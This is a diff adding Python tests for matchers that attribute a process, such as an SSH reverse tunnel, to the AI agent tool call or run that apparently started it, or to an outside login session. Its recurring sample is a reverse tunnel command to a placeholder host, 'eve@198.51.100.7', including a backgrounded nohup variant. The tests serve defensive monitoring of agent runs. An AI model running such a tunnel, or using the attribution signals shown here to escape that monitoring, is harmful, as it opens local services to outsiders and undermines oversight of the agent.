@@ -1,0 +1,173 @@
+"""Each matcher alone: what it takes for a sign, and what not."""
+
+from typing import Any
+
+import pytest
+
+from apps.attribution.case import Call, Case, Kin
+from apps.attribution.matchers import ancestry, command, membership, overlap, own_text, session, traceparent
+
+TRACE, SPAN, OTHER = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7", "b7ad6b7169203331"
+PARENT = f"00-{TRACE}-{SPAN}-01"
+TUNNEL = ("ssh", "-N", "-R", "9001:127.0.0.1:8000", "eve@198.51.100.7")
+
+
+def kin(pid: int = 10, argv: tuple[str, ...] = TUNNEL, **changed: Any) -> Kin:
+    return Kin(pid=pid, start_ticks=pid, argv=argv, **changed)
+
+
+def call(number: int = 1, text: str | None = None, start: float = 100.0, end: float | None = None) -> Call:
+    span = SPAN if number == 1 else OTHER
+    return Call(number, TRACE, span, "shell", text or "", text is not None, start, end, run_id=1)
+
+
+def case(*line: Kin, calls: tuple[Call, ...] = (), at: float = 101.0, **changed: Any) -> Case:
+    known = {
+        "run_id": 1,
+        "run_name": "rome",
+        "run_marker": "rome-1",
+        "run_cgroup": "/sentinel/rome",
+    } | changed
+    return Case(occurred_at=at, line=line, calls=calls, **known)
+
+
+def test_own_trace_context_names_the_tool_call() -> None:
+    found = traceparent.match(case(kin(traceparent=PARENT), calls=(call(1), call(2))))
+    assert [(one.call.id, one.strength) for one in found if one.call] == [(1, 97)]
+
+
+def test_span_within_the_tool_call_names_it_by_its_trace() -> None:
+    inner = f"00-{TRACE}-{'1' * 16}-01"
+    calls = (call(1, start=90.0), call(2, start=99.0))
+    [found] = traceparent.match(case(kin(traceparent=inner), calls=calls))
+    assert found.call is not None
+    assert (found.call.id, found.strength < 97) == (2, True)
+
+
+@pytest.mark.parametrize("text", ["", "00-x", PARENT + "-extra", f"00-{TRACE[:-1]}-{SPAN}-01", "\u0660" * 55])
+def test_what_is_no_trace_context_names_nothing(text: str) -> None:
+    assert traceparent.parse(text) is None
+    assert traceparent.match(case(kin(traceparent=text), calls=(call(),))) == []
+
+
+def test_nearest_ancestor_speaks() -> None:
+    far = f"00-{TRACE}-{OTHER}-01"
+    line = (kin(10), kin(9, ("bash",), traceparent=PARENT), kin(8, ("python",), traceparent=far))
+    [found] = ancestry.match(case(*line, calls=(call(1), call(2))))
+    assert found.call is not None
+    assert found.call.id == 1
+    assert "pid 9" in found.says
+
+
+def test_own_context_is_not_said_twice() -> None:
+    line = (kin(10, traceparent=PARENT), kin(9, traceparent=PARENT))
+    assert ancestry.match(case(*line, calls=(call(),))) == []
+
+
+def test_text_of_the_tool_call_itself() -> None:
+    [found] = own_text.match(case(calls=(call(1, "ssh -R"), call(2, "ls")), own_call=1))
+    assert found.call is not None
+    assert found.call.id == 1
+    assert own_text.match(case(calls=(call(1, "ssh -R"),))) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        " ".join(TUNNEL),
+        '{"command": "nohup ssh -N -R \'9001:127.0.0.1:8000\' eve@198.51.100.7 &"}',
+        '{"cmd": ["bash", "-lc", "cd /tmp; /usr/bin/ssh -N -R 9001:127.0.0.1:8000 eve@198.51.100.7"]}',
+        "set -e\\nssh -N -R 9001:127.0.0.1:8000 eve@198.51.100.7\\necho ok",
+    ],
+)
+def test_command_that_stands_in_the_text(text: str) -> None:
+    [found] = command.match(case(kin(), calls=(call(1, text), call(2, "ls -la /tmp"))))
+    assert found.call is not None
+    assert (found.call.id, found.strength) == (1, 82)
+
+
+@pytest.mark.parametrize(
+    "text", ["", "ls", "ssh-keygen -R host", "grep -R ssh .", "git commit -m 'ssh tunnel'", "ssh eve@other"]
+)
+def test_text_that_only_looks_alike(text: str) -> None:
+    assert command.match(case(kin(), calls=(call(1, text),))) == []
+
+
+def test_single_word_is_no_agreement() -> None:
+    assert command.match(case(kin(argv=("ls",)), calls=(call(1, "ls && ls -la"),))) == []
+
+
+def test_shell_above_the_process_counts_a_little_less() -> None:
+    shell = kin(9, ("bash", "-c", "python x.py --port 9"))
+    [found] = command.match(
+        case(kin(argv=("python3.11",)), shell, calls=(call(1, "cd /w; python x.py --port 9"),))
+    )
+    assert "parent" in found.says
+
+
+def test_huge_text_costs_no_more_than_its_limit() -> None:
+    text = "a " * 2_000_000 + " ".join(TUNNEL)
+    assert command.match(case(kin(), calls=(call(1, text),))) == []
+
+
+def test_cgroup_beats_marker_and_names_no_call() -> None:
+    [found] = membership.match(case(kin(cgroup="/sentinel/rome/tool", marker="rome-1")))
+    assert (found.strength, found.call) == (60, None)
+    [found] = membership.match(case(kin(cgroup="/else", marker="rome-1")))
+    assert found.strength == 50
+
+
+@pytest.mark.parametrize("cgroup", ["/sentinel/rome-2", "/sentinel", "", "/", "/x/sentinel/rome"])
+def test_neighbouring_cgroup_is_not_the_run(cgroup: str) -> None:
+    assert membership.match(case(kin(cgroup=cgroup))) == []
+
+
+def test_run_without_a_cgroup_holds_nobody() -> None:
+    assert membership.match(case(kin(cgroup="/anything"), run_cgroup="/")) == []
+
+
+def test_only_open_call_counts_more_than_one_of_many() -> None:
+    [one] = overlap.match(case(calls=(call(1),)))
+    [many] = overlap.match(case(calls=(call(1, start=99.0), call(2, start=100.0))))
+    assert one.strength == 45
+    assert many.strength < one.strength
+    assert many.call is not None
+    assert many.call.id == 2
+
+
+def test_clock_error_widens_the_window() -> None:
+    late = call(1, start=101.3)
+    assert overlap.match(case(calls=(late,), clock_error_ms=10.0)) == []
+    assert overlap.match(case(calls=(late,), clock_error_ms=400.0))
+
+
+def test_what_a_call_left_behind_may_act_later_for_a_while() -> None:
+    [found] = overlap.match(case(calls=(call(1, start=10.0, end=20.0),)))
+    assert found.strength == 15
+    assert overlap.match(case(calls=(call(1, start=10.0, end=20.0),), at=2_000.0)) == []
+
+
+def test_inbound_session_below_the_run_is_a_rival() -> None:
+    line = (
+        kin(10),
+        kin(9, ("bash",)),
+        kin(8, ("sshd: eve@pts/0",), peers=("203.0.113.9:5555", "8.8.8.8:41000")),
+    )
+    [found] = session.match(case(*line, run_id=None))
+    assert (found.against, found.origin) == (True, "external")
+    assert "8.8.8.8" in found.says
+
+
+def test_session_from_the_same_network_is_an_operator() -> None:
+    [found] = session.match(case(kin(10), kin(8, ("sshd",), peers=("10.0.0.9:5555",))))
+    assert found.origin == "operator"
+
+
+def test_session_through_which_the_run_was_launched_is_no_rival() -> None:
+    line = (kin(10), kin(9, ("python", "train.py"), in_run=True), kin(8, ("sshd",)))
+    assert session.match(case(*line)) == []
+
+
+@pytest.mark.parametrize("program", ["sshd-keygen", "ssh", "mysshd", "suspend", "sudoku"])
+def test_program_with_a_similar_name_is_no_session(program: str) -> None:
+    assert session.match(case(kin(10), kin(8, (program,)))) == []
